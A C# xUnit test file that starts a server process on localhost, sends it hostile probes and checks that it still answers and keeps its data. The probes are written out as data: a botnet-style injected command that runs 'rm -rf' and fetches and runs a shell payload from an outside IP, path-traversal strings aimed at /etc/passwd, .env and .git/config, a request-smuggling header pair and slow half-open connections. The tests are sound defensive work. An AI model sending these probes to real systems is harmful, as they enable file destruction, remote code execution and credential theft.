using System.Net;
using System.Net.Sockets;
using System.Text;
using Mocean.Server.Tests.Infrastructure;

namespace Mocean.Server.Tests.Hosting;

/// <summary>
/// The real server as a process, probed the way a public address is probed within minutes of going online. One server
/// takes every probe (as a public one does); after each, it must still answer, not have failed, and keep its data.
/// </summary>
public sealed class HostileRequestTests(HostileRequestTests.Probed probed) : IClassFixture<HostileRequestTests.Probed>, IAsyncLifetime
{
    private const string Keepsake = "ocean state that must survive";
    private readonly ServerProcess server = probed.Server;

    private string KeepsakeFile => Path.Combine(server.DataDir, "keepsake.txt");

    /// <summary>The server the probes share, with a file of ocean state in its data folder.</summary>
    public sealed class Probed : IAsyncLifetime
    {
        public ServerProcess Server { get; private set; } = null!;

        public async Task InitializeAsync()
        {
            var dataDir = ServerProcess.NewDataDir();
            Directory.CreateDirectory(dataDir);
            await File.WriteAllTextAsync(Path.Combine(dataDir, "keepsake.txt"), Keepsake);
            Server = await ServerProcess.StartAsync(dataDir);
        }

        public async Task DisposeAsync()
        {
            await Server.DisposeAsync();
            Directory.Delete(Server.DataDir, recursive: true);
        }
    }

    public Task InitializeAsync() => Task.CompletedTask;

    public async Task DisposeAsync()
    {
        // Every test ends the same way: the server still answers, has not failed, and its data is as it was.
        using var client = new HttpClient { Timeout = TimeSpan.FromSeconds(60) };
        Assert.Equal(HttpStatusCode.OK, (await client.GetAsync(server.BaseUrl + "/hello")).StatusCode);
        Assert.False(server.HasExited);
        Assert.Equal(Keepsake, await File.ReadAllTextAsync(KeepsakeFile));
        Assert.DoesNotContain("fail:", server.Output, StringComparison.Ordinal);
    }

    private static string Get(string target, string extraHeaders = "") =>
        $"GET {target} HTTP/1.1\r\nHost: 127.0.0.1\r\n{extraHeaders}Connection: close\r\n\r\n";

    [Fact]
    public async Task TheBotnetProbeGetsAFast404AndOneLogLine()
    {
        var answer = await RawHttp.SendAsync(server.Port, Get("/board.cgi?cmd=cd+/tmp;rm+-rf+*;wget+http://198.51.100.9/jaws;sh+/tmp/jaws"));

        Assert.Equal(404, RawHttp.Status(answer));
        Assert.Equal("there is no route /board.cgi here; GET / lists what runs on this server", RawHttp.Body(answer));
        Assert.True(await server.WaitForOutputAsync("Unknown route GET /board.cgi", TimeSpan.FromSeconds(60)));
        Assert.Single(server.Output.Split('\n'), line => line.Contains("/board.cgi", StringComparison.Ordinal));
    }

    [Fact]
    public async Task HeadAnswersLikeGetWithHeadersOnly()
    {
        var get = await RawHttp.SendAsync(server.Port, Get("/hello"));
        var head = await RawHttp.SendAsync(server.Port, "HEAD /hello HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n");

        Assert.Equal(200, RawHttp.Status(get));
        Assert.Equal(200, RawHttp.Status(head));
        Assert.Contains("Content-Type: text/plain; charset=utf-8\r\n", head, StringComparison.Ordinal);
        Assert.EndsWith("\r\n\r\n", head, StringComparison.Ordinal);
        Assert.Equal(string.Empty, RawHttp.Body(head));
    }

    [Fact]
    public async Task HeadOnTheLiveStreamSendsItsHeadersWhileTheStreamRuns()
    {
        // The stream never ends, so the answer is read only up to the end of its headers.
        using var socket = new TcpClient();
        await socket.ConnectAsync("127.0.0.1", server.Port);
        var stream = socket.GetStream();
        await stream.WriteAsync(Encoding.ASCII.GetBytes("HEAD /ocean/live/stream HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"));
        var head = new StringBuilder();
        var buffer = new byte[4096];
        using var limit = new CancellationTokenSource(TimeSpan.FromSeconds(60));
        while (!head.ToString().Contains("\r\n\r\n", StringComparison.Ordinal))
        {
            var count = await stream.ReadAsync(buffer, limit.Token);
            Assert.NotEqual(0, count);
            head.Append(Encoding.ASCII.GetString(buffer, 0, count));
        }

        Assert.Equal(200, RawHttp.Status(head.ToString()));
        Assert.Contains("Content-Type: text/event-stream; charset=utf-8\r\n", head.ToString(), StringComparison.Ordinal);
        Assert.EndsWith("\r\n\r\n", head.ToString(), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("/../../../../etc/passwd")]
    [InlineData("/%2e%2e/%2e%2e/%2e%2e/etc/passwd")]
    [InlineData("/..%2f..%2f..%2fetc%2fpasswd")]
    [InlineData("/api-docs/..%2f..%2f..%2f..%2fetc/passwd")]
    [InlineData("/openapi/..%252f..%252fetc%252fpasswd.json")]
    [InlineData("/hello/..\\..\\..\\etc\\passwd")]
    [InlineData("/%00/etc/passwd")]
    [InlineData("/.env")]
    [InlineData("/.git/config")]
    public async Task PathTraversalFindsNothingOutsideTheRoutes(string target)
    {
        var answer = await RawHttp.SendAsync(server.Port, Get(target));

        Assert.InRange(RawHttp.Status(answer), 400, 499);
        Assert.DoesNotContain("root:", answer, StringComparison.Ordinal);
        Assert.DoesNotContain("[core]", answer, StringComparison.Ordinal);
    }

    [Fact]
    public async Task ARequestLineOver8KiBIsRefusedWith414()
    {
        var answer = await RawHttp.SendAsync(server.Port, Get("/hello?message=" + new string('a', 9000)));

        Assert.Equal(414, RawHttp.Status(answer));
    }

    [Fact]
    public async Task HeadersOver16KiBAreRefusedWith431()
    {
        var answer = await RawHttp.SendAsync(server.Port, Get("/hello", $"X-Junk: {new string('b', 20_000)}\r\n"));

        Assert.Equal(431, RawHttp.Status(answer));
    }

    [Fact]
    public async Task MoreThan50HeadersAreRefusedWith431()
    {
        var headers = string.Concat(Enumerable.Range(0, 60).Select(i => $"X-H{i}: {i}\r\n"));

        var answer = await RawHttp.SendAsync(server.Port, Get("/hello", headers));

        Assert.Equal(431, RawHttp.Status(answer));
    }

    [Theory]
    [InlineData("GET /hello HTTP/1.1\r\n\r\n")]
    [InlineData("GET /hello HTTP/9.9\r\nHost: x\r\n\r\n")]
    [InlineData("BREW /hello HTTP/1.1\r\nHost: x\r\n\r\n")]
    [InlineData("GET /hello\r\n\r\n")]
    [InlineData("GET /hello HTTP/1.1\r\nHost: x\r\nContent-Length: -5\r\n\r\n")]
    [InlineData("GET /hello HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\nzzzzz")]
    [InlineData("\u0016\u0003\u0001\u0002\u0000\u0001\u0000\u0001\u00fc\u0003\u0003")]
    public async Task MalformedRequestsNeverMeetAServerFailure(string request)
    {
        var answer = await RawHttp.SendAsync(server.Port, request);

        // 505 is HTTP's own word for "that HTTP version is not spoken here", answered by Kestrel before any route runs.
        var status = RawHttp.Status(answer);
        Assert.True(status is 0 or < 500 or 505, answer);
        Assert.DoesNotContain("Exception", answer, StringComparison.Ordinal);
    }

    [Fact]
    public async Task SlowAndHalfOpenConnectionsDoNotBlockOtherClients()
    {
        var idle = new List<TcpClient>();
        try
        {
            for (var i = 0; i < 30; i++)
            {
                var silent = new TcpClient();
                await silent.ConnectAsync("127.0.0.1", server.Port);
                idle.Add(silent);
                var halfSent = new TcpClient();
                await halfSent.ConnectAsync("127.0.0.1", server.Port);
                await halfSent.GetStream().WriteAsync(Encoding.ASCII.GetBytes("GET /hello HTTP/1.1\r\nHost: x\r\nX-Slow: "));
                idle.Add(halfSent);
            }

            using var client = new HttpClient { Timeout = TimeSpan.FromSeconds(60) };
            for (var i = 0; i < 20; i++)
            {
                Assert.Equal(HttpStatusCode.OK, (await client.GetAsync(server.BaseUrl + "/hello")).StatusCode);
            }
        }
        finally
        {
            foreach (var connection in idle)
            {
                connection.Dispose();
            }
        }
    }

    [Fact]
    public async Task ConnectionsClosedMidRequestLeaveNoTrace()
    {
        for (var i = 0; i < 50; i++)
        {
            using var socket = new TcpClient();
            await socket.ConnectAsync("127.0.0.1", server.Port);
            await socket.GetStream().WriteAsync(Encoding.ASCII.GetBytes("GET /status?format=json HTTP/1.1\r\nHost: x\r\n\r\n"));
            socket.Client.Shutdown(SocketShutdown.Both);
        }

        var answer = await RawHttp.SendAsync(server.Port, Get("/status"));
        Assert.Equal(200, RawHttp.Status(answer));
    }
}
